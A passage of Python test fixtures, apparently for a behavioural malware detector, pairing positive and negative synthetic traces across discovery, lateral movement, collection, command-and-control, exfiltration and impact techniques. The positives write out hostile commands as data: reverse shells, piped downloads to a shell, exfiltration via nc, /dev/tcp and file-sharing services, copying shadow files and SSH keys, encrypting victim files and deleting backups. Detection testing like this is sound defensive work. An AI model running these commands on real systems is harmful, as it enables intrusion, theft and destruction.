        b.run(["ping", "-c", "1", f"192.168.1.{n}"], image="/bin/ping")
    b.run(["arp", "-a"], image="/usr/sbin/arp")
    b.run(["ip", "neighbour", "show"], image="/usr/sbin/ip")
    cat = b.run(["cat", "/etc/hosts"], image="/bin/cat")
    b.read("/etc/hosts", key=cat)


def neg_discovery_remote_systems(b: Builder) -> None:
    b.run(["ping", "-c", "1", "192.168.1.1"], image="/bin/ping")
    b.read("/etc/hosts")  # the resolver
    ssh = b.run(["ssh", "host"], image="/usr/bin/ssh")
    b.read("/root/.ssh/known_hosts", key=ssh)
    b.run(["ip", "addr"], image="/usr/sbin/ip")


def pos_discovery_network_service_scan(b: Builder) -> None:
    b.run(["nmap", "-sS", "192.168.1.0/24", "-p", "80"], image="/usr/bin/nmap")
    b.run(["nc", "-nvz", "192.168.1.1", "1-1024"], image="/bin/nc")


def neg_discovery_network_service_scan(b: Builder) -> None:
    b.run(["nmap", "-sn", "192.168.1.0/24"], image="/usr/bin/nmap")
    b.run(["nc", "-l", "-p", "8080"], image="/bin/nc")
    b.run(["nmap", "--version"], image="/usr/bin/nmap")


def pos_discovery_network_connections(b: Builder) -> None:
    b.run(["netstat", "-ant"], image="/bin/netstat")
    b.run(["lsof", "-i", "-n"], image="/usr/bin/lsof")
    b.read("/proc/net/tcp")


def neg_discovery_network_connections(b: Builder) -> None:
    b.run(["netstat", "-r"], image="/bin/netstat")
    ss = b.run(["ss", "--version"], image="/bin/ss")
    b.read("/proc/net/tcp", key=b.run(["ss", "-V"], parent=ss, image="/bin/ss"))
    b.read("/proc/net/dev")


def pos_discovery_internet_connectivity(b: Builder) -> None:
    b.run(["ping", "-c", "4", "8.8.8.8"], image="/bin/ping")
    b.dns("api.ipify.org")


def neg_discovery_internet_connectivity(b: Builder) -> None:
    b.run(["ping", "-c", "1", "127.0.0.1"], image="/bin/ping")
    b.run(["ping", "-c", "1", "10.0.2.2"], image="/bin/ping")
    b.dns("deb.debian.org")


def pos_discovery_system_location(b: Builder) -> None:
    b.run(["curl", "-k", "https://ipinfo.io/"])
    b.dns("ipinfo.io")
    b.run(["timedatectl"], image="/usr/bin/timedatectl")


def neg_discovery_system_location(b: Builder) -> None:
    b.dns("pypi.org")
    b.run(["timedatectl", "set-ntp", "true"], image="/usr/bin/timedatectl")
    b.read("/etc/timezone")  # a runtime's own look


def pos_discovery_system_language(b: Builder) -> None:
    b.run(["locale"], image="/usr/bin/locale")
    b.run(["localectl", "status"], image="/usr/bin/localectl")
    cat = b.run(["cat", "/etc/default/locale"], image="/bin/cat")
    b.read("/etc/default/locale", key=cat)


def neg_discovery_system_language(b: Builder) -> None:
    b.read("/usr/lib/locale/C.utf8/LC_CTYPE")
    b.run(["localectl", "set-locale", "LANG=en_US.UTF-8"], image="/usr/bin/localectl")
    b.run(["printenv", "PATH"], image="/usr/bin/printenv")


def pos_discovery_system_time(b: Builder) -> None:
    b.run(["date"], image="/bin/date")
    b.run(["timedatectl", "status"], image="/usr/bin/timedatectl")


def neg_discovery_system_time(b: Builder) -> None:
    b.run(["date", "-s", "1990-01-01"], image="/bin/date")
    b.run(["timedatectl", "set-timezone", "UTC"], image="/usr/bin/timedatectl")


def pos_discovery_files_and_directories(b: Builder) -> None:
    b.run(["find", ".", "-type", "f"], cwd="/root")
    b.run(["ls", "-laR", "/home"], image="/bin/ls")
    b.run(["locate", "*.pdf"], image="/usr/bin/locate")


def neg_discovery_files_and_directories(b: Builder) -> None:
    b.run(["ls", "-l", "/tmp"], image="/bin/ls")
    b.run(["find", "/tmp/build", "-name", "*.o", "-delete"])
    b.run(["find", ".", "-name", "*.pyc", "-delete"])


def pos_discovery_kernel_modules(b: Builder) -> None:
    b.shell("lsmod | grep -i vboxsf")
    cat = b.run(["grep", "vmw", "/proc/modules"], image="/bin/grep")
    b.read("/proc/modules", key=cat)


def neg_discovery_kernel_modules(b: Builder) -> None:
    modprobe = b.run(["modprobe", "loop"], image="/sbin/modprobe")
    b.read("/proc/modules", key=modprobe)
    b.run(["kmod", "static-nodes-list-x"], image="/bin/kmod")


def pos_discovery_peripheral_devices(b: Builder) -> None:
    b.run(["lsusb"], image="/usr/bin/lsusb")
    b.run(["lspci", "-v"], image="/usr/bin/lspci")


def neg_discovery_peripheral_devices(b: Builder) -> None:
    b.run(["lscpu"], image="/usr/bin/lscpu")
    udev = b.run(["systemd-udevd"], image="/lib/systemd/systemd-udevd")
    b.read("/sys/bus/usb/devices/1-1/product", key=udev)


def pos_discovery_container_resources(b: Builder) -> None:
    b.run(["docker", "ps", "-a"])
    curl = b.run(
        ["curl", "--unix-socket", "/var/run/docker.sock", "http://localhost/containers/json"]
    )
    b.unix("/var/run/docker.sock", key=curl)


def neg_discovery_container_resources(b: Builder) -> None:
    b.run(["docker", "--version"])
    docker = b.run(["docker", "run", "alpine"])
    b.unix("/var/run/docker.sock", key=docker)
    b.run(["kubectl", "get", "secrets"])  # credential_container_secrets' matter


def pos_discovery_log_enumeration(b: Builder) -> None:
    b.run(["journalctl", "-u", "ssh", "--since", "today"], image="/bin/journalctl")
    grep = b.run(["grep", "Accepted", "/var/log/auth.log"], image="/bin/grep")
    b.read("/var/log/auth.log", key=grep)
    b.run(["ausearch", "-m", "USER_LOGIN"], image="/sbin/ausearch")


def neg_discovery_log_enumeration(b: Builder) -> None:
    b.run(["journalctl", "--vacuum-time=1s"], image="/bin/journalctl")
    b.write("/var/log/sample.log", flags=APPEND)
    b.run(["logger", "hello"], image="/usr/bin/logger")
    rsyslog = b.run(["rsyslogd"], image="/usr/sbin/rsyslogd")
    b.read("/var/log/syslog", key=rsyslog)


def pos_discovery_enumeration_scripts(b: Builder) -> None:
    b.run(["sh", "/tmp/linpeas.sh", "-a"], image="/bin/sh")
    b.run(["/tmp/pspy64"])


def neg_discovery_enumeration_scripts(b: Builder) -> None:
    b.run(["sh", "/tmp/install.sh"], image="/bin/sh")
    b.run(["/usr/bin/lynis", "audit", "system"])


def pos_antianalysis_debugger_process_check(b: Builder) -> None:
    b.shell("ps -ef | grep -E 'gdb|strace|ltrace|tcpdump'")
    b.run(["pidof", "wireshark"], image="/bin/pidof")


def neg_antianalysis_debugger_process_check(b: Builder) -> None:
    b.shell("ps -ef | grep nginx")
    b.run(["grep", "-r", "perfect", "/srv/docs"], image="/bin/grep")


def pos_antianalysis_long_sleep(b: Builder) -> None:
    b.run(["sleep", "600"], image="/bin/sleep")
    b.run(["sleep", "5m"], image="/bin/sleep")


def neg_antianalysis_long_sleep(b: Builder) -> None:
    b.run(["sleep", "1"], image="/bin/sleep")
    b.run(["sleep", "0.5"], image="/bin/sleep")
    b.run(["ping", "-c", "3", "127.0.0.1"], image="/bin/ping")


# --- lateral movement ------------------------------------------------------------------
def pos_lateral_ssh_remote_command(b: Builder) -> None:
    b.run(["ssh", "-o", "StrictHostKeyChecking=no", "-i", "/tmp/.k/id", "root@10.0.2.20", "id"])
    b.run(["sshpass", "-p", "toor", "ssh", "root@10.0.2.21"], image="/usr/bin/sshpass")


def neg_lateral_ssh_remote_command(b: Builder) -> None:
    b.run(["ssh", "-V"], image="/usr/bin/ssh")
    b.run(["ssh", "alice@10.0.2.20"], image="/usr/bin/ssh")
    b.run(["ssh-keygen", "-t", "ed25519", "-f", "/tmp/k", "-N", ""], image="/usr/bin/ssh-keygen")


def pos_lateral_remote_file_copy(b: Builder) -> None:
    b.run(["scp", "/tmp/.x/agent", "root@10.0.2.20:/tmp/agent"], image="/usr/bin/scp")
    b.run(["rsync", "-avz", "user@10.0.2.21:/tmp/tool", "/tmp/tool"], image="/usr/bin/rsync")


def neg_lateral_remote_file_copy(b: Builder) -> None:
    b.run(["rsync", "-a", "/srv/a/", "/srv/b/"], image="/usr/bin/rsync")
    b.run(["scp", "-h"], image="/usr/bin/scp")
    b.run(["cp", "host:file", "/tmp/x"], image="/bin/cp")


def pos_lateral_ssh_agent_hijack(b: Builder) -> None:
    b.unix("/tmp/ssh-XXXXAbCdEf/agent.1234")
    b.shell_script("#!/bin/sh\nexport SSH_AUTH_SOCK=/tmp/ssh-XXXXAbCdEf/agent.1234\nssh-add -l\n")


def neg_lateral_ssh_agent_hijack(b: Builder) -> None:
    agent = b.run(["ssh-agent"], image="/usr/bin/ssh-agent")
    b.mkdir("/tmp/ssh-own123", key=agent)
    b.unix("/tmp/ssh-own123/agent.99", key=b.run(["ssh-add", "-l"], image="/usr/bin/ssh-add"))
    b.unix("/run/systemd/journal/stdout")


def pos_lateral_deployment_tools(b: Builder) -> None:
    b.run(["ansible", "all", "-m", "shell", "-a", "curl -s http://203.0.113.5/i | sh"])
    b.run(["salt", "*", "cmd.run", "id"])


def neg_lateral_deployment_tools(b: Builder) -> None:
    b.run(["ansible", "--version"])
    b.run(["ansible", "all", "-m", "ping"])
    b.run(["salt", "*", "test.ping"])


# --- collection ------------------------------------------------------------------------
def pos_collection_archive_via_library(b: Builder) -> None:
    py = b.run(
        [
            "python3",
            "-c",
            "from zipfile import ZipFile; ZipFile('/tmp/passwd.zip', 'w').write('/etc/passwd')",
        ],
        image="/usr/bin/python3",
    )
    b.read("/etc/passwd", key=py)
    b.write("/tmp/passwd.zip", key=py)


def neg_collection_archive_via_library(b: Builder) -> None:
    py = b.run(["python3", "/tmp/build.py"], image="/usr/bin/python3")
    b.read("/etc/hosts", key=py)
    b.read("/tmp/build/out.bin", key=py)
    b.write("/tmp/build/out.tar.gz", key=py)
    tar = b.run(["tar", "czf", "/tmp/etc.tgz", "/etc"], image="/bin/tar")
    b.read("/etc/passwd", key=tar)
    b.write("/tmp/etc.tgz", key=tar)


def pos_collection_staging(b: Builder) -> None:
    b.run(["find", "/home", "-name", "*.doc", "-exec", "cp", "{}", "/tmp/.stage/", ";"])
    b.run(["cp", "/etc/shadow", "/root/.ssh/id_rsa", "/dev/shm/.s/"], image="/bin/cp")


def neg_collection_staging(b: Builder) -> None:
    b.run(["find", "/tmp/build", "-name", "*.o", "-exec", "rm", "{}", ";"])
    b.run(["cp", "/etc/hosts", "/etc/hosts.bak"], image="/bin/cp")
    b.run(["cp", "/tmp/a", "/tmp/b"], image="/bin/cp")


def pos_collection_screen_capture(b: Builder) -> None:
    b.run(["xwd", "-root", "-out", "/tmp/T1113_desktop.xwd"], image="/usr/bin/xwd")
    b.run(["import", "-window", "root", "/tmp/T1113_desktop.png"], image="/usr/bin/import")


def neg_collection_screen_capture(b: Builder) -> None:
    b.run(["import", "--version"], image="/usr/bin/import")
    b.run(["ffmpeg", "-i", "/tmp/a.mp4", "/tmp/a.webm"], image="/usr/bin/ffmpeg")
    b.run(["xwud", "-in", "/tmp/x.xwd"], image="/usr/bin/xwud")


def pos_collection_clipboard(b: Builder) -> None:
    b.shell("echo ifconfig | xclip -sel clip; xclip -o -sel clip")
    b.run(["wl-paste"], image="/usr/bin/wl-paste")


def neg_collection_clipboard(b: Builder) -> None:
    b.run(["xclip", "-selection", "clipboard", "-i", "/tmp/x"], image="/usr/bin/xclip")
    b.run(["xsel", "--clear"], image="/usr/bin/xsel")


def pos_collection_audio_capture(b: Builder) -> None:
    b.run(["arecord", "-d", "10", "/tmp/.r.wav"], image="/usr/bin/arecord")
    b.read("/dev/snd/pcmC0D0c")


def neg_collection_audio_capture(b: Builder) -> None:
    b.run(["arecord", "-l"], image="/usr/bin/arecord")
    b.run(["aplay", "/tmp/x.wav"], image="/usr/bin/aplay")
    b.write("/dev/snd/pcmC0D0p")


def pos_collection_video_capture(b: Builder) -> None:
    b.run(["fswebcam", "-r", "640x480", "/tmp/.cam.jpg"], image="/usr/bin/fswebcam")
    b.run(["ffmpeg", "-f", "v4l2", "-i", "/dev/video0", "/tmp/v.mkv"], image="/usr/bin/ffmpeg")


def neg_collection_video_capture(b: Builder) -> None:
    b.run(["v4l2-ctl", "--list-devices"], image="/usr/bin/v4l2-ctl")
    b.run(["ffmpeg", "-i", "/tmp/in.mkv", "/tmp/out.mp4"], image="/usr/bin/ffmpeg")


def pos_collection_email_data(b: Builder) -> None:
    cat = b.run(["cat", "/var/mail/root"], image="/bin/cat")
    b.read("/var/mail/root", key=cat)
    b.read("/home/alice/.thunderbird/x.default/ImapMail/imap.example.com/INBOX")


def neg_collection_email_data(b: Builder) -> None:
    mutt = b.run(["mutt"], image="/usr/bin/mutt")
    b.read("/var/mail/root", key=mutt)
    b.read("/etc/mailname")


# --- execution and command and control -------------------------------------------------
def pos_execution_network_shell(b: Builder) -> None:
    # bash -i >& /dev/tcp/203.0.113.9/4444 0>&1: the child connects, then becomes bash -i.
    child = b.fork()
    b.connect("203.0.113.9", 4444, key=child)
    b.exec_in(child, "/bin/bash", ["bash", "-i"])
    # python -c '...connect...; pty.spawn("/bin/sh")'
    py = b.run(["python3", "-c", "import socket,pty..."], image="/usr/bin/python3")
    b.connect("203.0.113.9", 4445, key=py)
    b.run(["/bin/sh"], parent=py, image="/bin/sh")
    # mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4446 > /tmp/f
    shell = b.run(["sh", "-c", "cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4446 >/tmp/f"])
    b.run(["cat", "/tmp/f"], parent=shell, image="/bin/cat")
    b.run(["/bin/sh", "-i"], parent=shell, image="/bin/sh")
    nc = b.run(["nc", "203.0.113.9", "4446"], parent=shell, image="/bin/nc")
    b.connect("203.0.113.9", 4446, key=nc)


def neg_execution_network_shell(b: Builder) -> None:
    # curl ... | sh is a download run (execution_pipe_to_shell), not a shell given away.
    shell = b.run(["sh", "-c", "curl -s http://203.0.113.5/i.sh | sh"], image="/bin/sh")
    curl = b.run(["curl", "-s", "http://203.0.113.5/i.sh"], parent=shell)
    b.connect("203.0.113.5", 80, key=curl)
    b.run(["sh"], parent=shell, image="/bin/sh")
    # A program that talked to the network, then ran shell code it was given.
    py = b.run(["python3", "/opt/app.py"], image="/usr/bin/python3")
    b.connect("203.0.113.7", 443, key=py)
    b.run(["sh", "-c", "ls /tmp"], parent=py, image="/bin/sh")
    b.connect("10.0.2.3", 53)


def pos_execution_shell_network_io(b: Builder) -> None:
    b.exec_in(b.fork(), "/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/203.0.113.9/80"])
    bash = b.run(["bash", "-c", "echo x > /dev/udp/203.0.113.9/53535"], image="/bin/bash")
    b.udp("203.0.113.9", 53535, key=bash)
    shell_child = b.fork(parent=bash)
    b.connect("203.0.113.9", 8080, key=shell_child)


def neg_execution_shell_network_io(b: Builder) -> None:
    shell = b.run(["sh", "-c", "wget -q http://203.0.113.5/x"], image="/bin/sh")
    wget = b.run(["wget", "-q", "http://203.0.113.5/x"], parent=shell)
    b.connect("203.0.113.5", 80, key=wget)
    py = b.run(["python3", "/opt/app.py"], image="/usr/bin/python3")
    b.connect("203.0.113.7", 443, key=b.fork(parent=py))


def pos_execution_shell_escape(b: Builder) -> None:
    awk = b.run(["awk", 'BEGIN {system("/bin/sh &")}'], image="/usr/bin/awk")
    sh = b.run(["sh", "-c", "/bin/sh &"], parent=awk, image="/bin/sh")
    b.run(["/bin/sh"], parent=sh, image="/bin/sh")
    py = b.run(["python3", "-c", "import pty;pty.spawn('/bin/bash')"], image="/usr/bin/python3")
    b.run(["/bin/bash"], parent=py, image="/bin/bash")


def neg_execution_shell_escape(b: Builder) -> None:
    awk = b.run(["awk", 'BEGIN {system("date")}'], image="/usr/bin/awk")
    b.run(["sh", "-c", "date"], parent=awk, image="/bin/sh")
    py = b.run(["python3", "/opt/tool.py"], image="/usr/bin/python3")
    b.run(["sh", "-c", "ls"], parent=py, image="/bin/sh")
    b.run(["bash", "/tmp/setup.sh"], image="/bin/bash")
    b.run(["sh"], image="/bin/sh")  # the sample's own shell reading its input


def pos_execution_python_code(b: Builder) -> None:
    b.run(["python3", "-c", "import os; os.system('id')"], image="/usr/bin/python3")
    b.run(["python3", "/dev/shm/x.py"], image="/usr/bin/python3")


def neg_execution_python_code(b: Builder) -> None:
    b.run(["python3", "/opt/tool/main.py"], image="/usr/bin/python3")
    b.run(["python3", "-m", "json.tool", "/srv/a.json"], image="/usr/bin/python3")
    b.run(["python3", "--version"], image="/usr/bin/python3")


def pos_execution_container_admin(b: Builder) -> None:
    b.run(["docker", "run", "--rm", "-d", "alpine", "sh", "-c", "sleep 1000"])
    b.run(["kubectl", "exec", "-it", "web-0", "--", "sh"], image="/usr/local/bin/kubectl")


def neg_execution_container_admin(b: Builder) -> None:
    b.run(["docker", "ps"])
    b.run(["docker", "images"])
    b.run(["kubectl", "get", "pods"], image="/usr/local/bin/kubectl")


def pos_execution_systemd_service_run(b: Builder) -> None:
    b.write("/etc/systemd/system/art-systemd-service.service")
    b.run(["systemctl", "start", "art-systemd-service"])
    b.run(["systemd-run", "--unit=x", "/bin/sh", "-c", "id"])


def neg_execution_systemd_service_run(b: Builder) -> None:
    b.run(["systemctl", "restart", "nginx"])
    b.run(["systemd-run", "--on-calendar=*:0/5", "/bin/true"])
    b.run(["systemd-run", "--version"])


def pos_c2_ingress_tool_transfer(b: Builder) -> None:
    wget = b.run(["wget", "-q", "-O", "/tmp/tool", "http://203.0.113.5/tool"])
    b.connect("203.0.113.5", 80, key=wget)
    b.write("/tmp/tool", key=wget)
    b.run(["whois", "-h", "203.0.113.5", "-p", "8443", "Hello"], image="/usr/bin/whois")


def neg_c2_ingress_tool_transfer(b: Builder) -> None:
    curl = b.run(["curl", "-s", "http://203.0.113.5/status"])
    b.connect("203.0.113.5", 80, key=curl)
    b.write("/tmp/local.txt")
    b.run(["whois", "example.com"], image="/usr/bin/whois")


def pos_c2_data_encoding(b: Builder) -> None:
    b.shell("echo -n 111-11-1111 | base64; curl -XPOST MTExLTExLTExMTE=.redcanary.com")
    b.http("c2.example.net", "/u?d=c2VjcmV0X3Bhc3N3b3Jk", method="GET")


def neg_c2_data_encoding(b: Builder) -> None:
    b.http("deb.debian.org", "/debian/pool/main/p/python3.11/python3.11_3.11.2-6_amd64.deb")
    b.http("example.org", "/api/v1/users?token=abc123def456")
    b.dns("a1b2c3d4.cdn.example.net")
    b.run(["curl", "https://files.pythonhosted.org/packages/3f/2a/9c8e1b/requests.whl"])


def pos_c2_non_standard_port(b: Builder) -> None:
    b.http("203.0.113.5", "/gate", port=4444)
    b.tls("c2.example.net", at=3000.0, port=8081)
    telnet = b.run(["telnet", "google.com", "8081"], image="/usr/bin/telnet")
    b.connect("142.250.0.1", 8081, key=telnet)


def neg_c2_non_standard_port(b: Builder) -> None:
    b.http("example.org", "/", port=8080)
    b.tls("example.org", at=3000.0, port=443)
    telnet = b.run(["telnet", "10.0.2.20", "23"], image="/usr/bin/telnet")
    b.connect("10.0.2.20", 23, key=telnet)


def pos_c2_protocol_tunnel(b: Builder) -> None:
    b.run(["ssh", "-fN", "-R", "8080:localhost:22", "root@203.0.113.9"])
    b.run(["chisel", "client", "203.0.113.9:8000", "R:socks"], image="/tmp/chisel")
    b.run(["socat", "TCP-LISTEN:8443,fork", "TCP:10.0.2.20:22"], image="/usr/bin/socat")


def neg_c2_protocol_tunnel(b: Builder) -> None:
    b.run(["ssh", "alice@10.0.2.20", "uptime"])
    b.run(["socat", "-V"], image="/usr/bin/socat")
    b.run(["ngrok", "version"], image="/usr/local/bin/ngrok")


def pos_c2_proxy_configured(b: Builder) -> None:
    b.shell_script("#!/bin/sh\nexport http_proxy=127.0.0.1:8080\ncurl http://example.org\n")
    b.run(["proxychains4", "curl", "http://203.0.113.5/"], image="/usr/bin/proxychains4")
    b.run(["sysctl", "-w", "net.ipv4.ip_forward=1"], image="/sbin/sysctl")


def neg_c2_proxy_configured(b: Builder) -> None:
    b.shell_script("#!/bin/sh\nunset http_proxy\nexport no_proxy=localhost\n")
    b.run(["sysctl", "-w", "net.ipv4.ip_forward=0"], image="/sbin/sysctl")
    b.run(["iptables", "-t", "nat", "-L"], image="/usr/sbin/iptables")


def pos_c2_remote_access_tools(b: Builder) -> None:
    b.run(["tmate", "-F"], image="/usr/bin/tmate")
    b.run(["x11vnc", "-display", ":0", "-forever"], image="/usr/bin/x11vnc")


def neg_c2_remote_access_tools(b: Builder) -> None:
    b.run(["tmux", "new", "-d"], image="/usr/bin/tmux")
    b.run(["tmate", "--version"], image="/usr/bin/tmate")


def pos_c2_web_service_channel(b: Builder) -> None:
    b.dns("api.telegram.org")
    b.tls("abc-203-0-113-9.ngrok-free.app", at=3000.0)


def neg_c2_web_service_channel(b: Builder) -> None:
    b.dns("telegram.org.example.com")
    b.dns("github.com")
    b.tls("pypi.org", at=3000.0)


def pos_c2_dns_tunneling(b: Builder) -> None:
    for n in range(16):
        b.dns(f"{n:02x}9f3ac1d7e2b84f0a6c5d{n:02x}e1b7a3f9c2d4e6b8a0.t.tunnel.example", answer=None)


def neg_c2_dns_tunneling(b: Builder) -> None:
    for n in range(20):
        b.dns(f"www{n}.example.com")
    b.dns("8f3ac1d7e2b84f0a6c5d9e1b7a3f9c2d.cdn.example.net")


# --- exfiltration ----------------------------------------------------------------------
def pos_exfil_unencrypted_protocol(b: Builder) -> None:
    b.run(["python3", "-m", "http.server", "9090"], image="/usr/bin/python3")
    b.shell("nc 203.0.113.9 9999 < /tmp/.loot.tgz")
    b.shell_script("#!/bin/sh\ncat /etc/passwd > /dev/tcp/203.0.113.9/8000\n")
    b.run(["tftp", "203.0.113.9", "-c", "put", "/tmp/l.tgz"], image="/usr/bin/tftp")


def neg_exfil_unencrypted_protocol(b: Builder) -> None:
    b.run(["python3", "-m", "pip", "list"], image="/usr/bin/python3")
    b.shell("nc -l 8080 > /tmp/in.bin")
    b.run(["tftp", "203.0.113.9", "-c", "get", "x"], image="/usr/bin/tftp")
    b.run(["mail", "-s", "report", "root"], image="/usr/bin/mail")


def pos_exfil_encrypted_protocol(b: Builder) -> None:
    b.run(["ssh", "user@203.0.113.9", "cat > /tmp/users.tar.gz.enc"])
    shell = b.run(["sh", "-c", "tar czpf - /home | ssh user@203.0.113.9 'cat > h.tgz'"])
    b.run(["tar", "czpf", "-", "/home"], parent=shell, image="/bin/tar")
    b.run(["ssh", "user@203.0.113.9", "dd of=/tmp/h"], parent=shell, image="/usr/bin/ssh")


def neg_exfil_encrypted_protocol(b: Builder) -> None:
    b.run(["ssh", "alice@10.0.2.20", "uptime"])
    b.run(["openssl", "s_client", "-connect", "example.org:443"], image="/usr/bin/openssl")
    b.run(["ssh", "-V"], image="/usr/bin/ssh")


def pos_exfil_web_service(b: Builder) -> None:
    b.run(["curl", "-F", "file=@/tmp/artifact", "-F", "maxDownloads=1", "https://file.io/"])
    b.shell("cat /tmp/loot.txt | nc termbin.com 9999")


def neg_exfil_web_service(b: Builder) -> None:
    b.run(["curl", "-o", "/tmp/x", "https://transfer.sh/abc/x"])
    b.run(["curl", "-F", "file=@/tmp/report", "https://ci.example.org/upload"])


def pos_exfil_cloud_storage(b: Builder) -> None:
    b.run(["rclone", "copy", "/home/alice/docs", "mega:backup"], image="/usr/bin/rclone")
    b.run(["aws", "s3", "cp", "/tmp/l.tgz", "s3://exfil-bucket/l.tgz"], image="/usr/local/bin/aws")


def neg_exfil_cloud_storage(b: Builder) -> None:
    b.run(["rclone", "copy", "remote:data", "/srv/data"], image="/usr/bin/rclone")
    b.run(["aws", "s3", "ls"], image="/usr/local/bin/aws")
    b.run(["aws", "s3", "cp", "s3://bucket/x", "/tmp/x"], image="/usr/local/bin/aws")


def pos_exfil_split_file(b: Builder) -> None:
    b.run(["split", "-b", "5000000", "/tmp/victim-whole-file"], image="/usr/bin/split")


def neg_exfil_split_file(b: Builder) -> None:
    b.run(["split", "-l", "1000", "--numeric-suffixes", "/tmp/data.csv"], image="/usr/bin/split")


# --- impact ----------------------------------------------------------------------------
def pos_impact_file_overwrite(b: Builder) -> None:
    b.run(["dd", "of=/var/log/syslog", "if=/dev/zero", "count=1048576", "iflag=count_bytes"])


def neg_impact_file_overwrite(b: Builder) -> None:
    b.run(["dd", "if=/dev/zero", "of=/tmp/swapfile", "bs=1M", "count=10"], image="/bin/dd")
    b.run(["dd", "if=/dev/sda", "of=/srv/mbr.bin", "count=1"], image="/bin/dd")
    b.write("/srv/random.bin")
    b.run(["dd", "if=/dev/urandom", "of=/srv/random.bin", "count=1"], image="/bin/dd")


def pos_impact_encrypt_files_tool(b: Builder) -> None:
    b.shell(
        "echo passwd | gpg --batch --yes --passphrase-fd 0 --cipher-algo AES-256 "
        "-c /tmp/victim-gpg.txt"
    )
    b.run(
        ["7z", "a", "-pinsecure", "/tmp/victim-files.7z", "/tmp/victim-files/"], image="/usr/bin/7z"
    )
    b.run(["openssl", "enc", "-aes-256-cbc", "-in", "/home/a/doc", "-out", "/home/a/doc.enc"])


def neg_impact_encrypt_files_tool(b: Builder) -> None:
    b.run(["gpg", "--decrypt", "/tmp/x.gpg"], image="/usr/bin/gpg")
    b.run(["gpg", "--import", "/tmp/key.asc"], image="/usr/bin/gpg")
    b.run(["openssl", "enc", "-base64", "-in", "/tmp/a"], image="/usr/bin/openssl")
    b.run(["7z", "x", "-psecret", "/tmp/a.7z"], image="/usr/bin/7z")


def pos_impact_service_stop(b: Builder) -> None:
    b.run(["systemctl", "stop", "cron"])
    b.run(["killall", "-SIGINT", "cron"], image="/usr/bin/killall")
    b.shell_script("#!/bin/sh\nkill -SIGTERM $(pgrep nginx)\n")


def neg_impact_service_stop(b: Builder) -> None:
    b.run(["systemctl", "restart", "ssh"])
    b.run(["systemctl", "status", "nginx"])
    b.run(["pkill", "-f", "myworker"], image="/usr/bin/pkill")
    b.shell_script("#!/bin/sh\nkill $(cat /tmp/worker.pid)\n")


def pos_impact_inhibit_recovery(b: Builder) -> None:
    b.run(["lvremove", "-f", "/dev/vg0/snap"], image="/sbin/lvremove")
    b.run(["zfs", "destroy", "-r", "tank@daily"], image="/sbin/zfs")
    rm = b.run(["rm", "-rf", "/var/backups"], image="/bin/rm")
    b.delete("/var/backups/passwd.bak", key=rm)


def neg_impact_inhibit_recovery(b: Builder) -> None:
    b.run(["lvs"], image="/sbin/lvs")
    b.run(["zfs", "list"], image="/sbin/zfs")
    b.write("/var/backups/mine.tmp")
    b.delete("/var/backups/mine.tmp")


def pos_impact_system_shutdown(b: Builder) -> None:
    b.run(["shutdown", "-r", "now"], image="/sbin/shutdown")
    b.run(["halt", "-p"], image="/sbin/halt")
    b.write("/proc/sysrq-trigger", flags="O_WRONLY|O_TRUNC")


def neg_impact_system_shutdown(b: Builder) -> None:
    b.run(["shutdown", "-c"], image="/sbin/shutdown")
    b.run(["systemctl", "status"])
    b.run(["uptime"], image="/usr/bin/uptime")


def pos_impact_account_access_removal(b: Builder) -> None:
    b.run(["userdel", "-r", "alice"], image="/usr/sbin/userdel")
    b.run(["passwd", "-l", "root"], image="/usr/bin/passwd")
    b.shell("echo 'bob:Hacked123' | chpasswd")


def neg_impact_account_access_removal(b: Builder) -> None:
    b.run(["useradd", "-M", "tmpuser"], image="/usr/sbin/useradd")
    b.shell("echo 'tmpuser:pw' | chpasswd")
    b.run(["userdel", "tmpuser"], image="/usr/sbin/userdel")
    b.run(["passwd", "-S", "root"], image="/usr/bin/passwd")


def pos_impact_hosts_file_modified(b: Builder) -> None:
    b.write("/etc/hosts", flags="O_WRONLY|O_APPEND")
    b.rename("/etc/resolv.conf.new", "/etc/resolv.conf")


def neg_impact_hosts_file_modified(b: Builder) -> None:
    b.read("/etc/hosts")
    dhclient = b.run(["dhclient", "eth0"], image="/sbin/dhclient")
    script = b.run(["dhclient-script"], parent=dhclient, image="/sbin/dhclient-script")
    b.write("/etc/resolv.conf", key=script)


def pos_impact_defacement(b: Builder) -> None:
    b.write("/etc/motd")
    b.write("/var/www/html/index.html")


def neg_impact_defacement(b: Builder) -> None:
    b.read("/etc/motd")
    b.write("/var/www/html/css/site.css")


def pos_impact_compute_hijacking(b: Builder) -> None:
    b.run(["sysctl", "-w", "vm.nr_hugepages=1280"], image="/sbin/sysctl")
    b.shell("yes > /dev/null &")
    b.run(["cpulimit", "-l", "50", "-p", "4242"], image="/usr/bin/cpulimit")


def neg_impact_compute_hijacking(b: Builder) -> None:
    b.run(["sysctl", "vm.nr_hugepages"], image="/sbin/sysctl")
    b.shell("yes | head -n 3")
    b.run(["md5sum", "/tmp/a.iso"], image="/usr/bin/md5sum")


def pos_impact_bandwidth_hijacking(b: Builder) -> None:
    b.run(["/tmp/.x/honeygain", "-tou-accept", "-email", "x@example.org"])


def neg_impact_bandwidth_hijacking(b: Builder) -> None:
    b.run(["/usr/bin/curl", "-O", "http://example.org/honeygain.txt"])


def pos_impact_network_flood(b: Builder) -> None:
    b.udp("198.51.100.80", 80)
    b.report.network.udp[-1].count = 2000
    b.run(["hping3", "--flood", "-S", "-p", "80", "198.51.100.80"], image="/usr/sbin/hping3")


def neg_impact_network_flood(b: Builder) -> None:
    b.connect("198.51.100.80", 443, count=40)
    b.udp("10.0.2.3", 53)
    b.report.network.udp[-1].count = 800
    b.run(["hping3", "-c", "3", "-S", "-p", "80", "198.51.100.80"], image="/usr/sbin/hping3")


# --- tampering with the tracer ------------------------------------------------------------
def pos_antianalysis_tracer_tamper(b: Builder) -> None:
    b.write("/sys/kernel/tracing/tracing_on", ok=False)
    b.read("/sys/kernel/tracing/kprobe_events", ok=False)
    b.listdir("/sys/kernel/debug/tracing")
    b.run(["kill", "-9", "1"])


def neg_antianalysis_tracer_tamper(b: Builder) -> None:
    b.read("/sys/kernel/mm/transparent_hugepage/enabled")
    b.listdir("/sys/kernel")
    b.run(["kill", "-TERM", "4242"])
    b.read("/proc/sys/kernel/osrelease")


POSITIVE: dict[str, Case] = {
    name[4:]: fn for name, fn in list(globals().items()) if name.startswith("pos_")
}
NEGATIVE: dict[str, Case] = {
    name[4:]: fn for name, fn in list(globals().items()) if name.startswith("neg_")
}
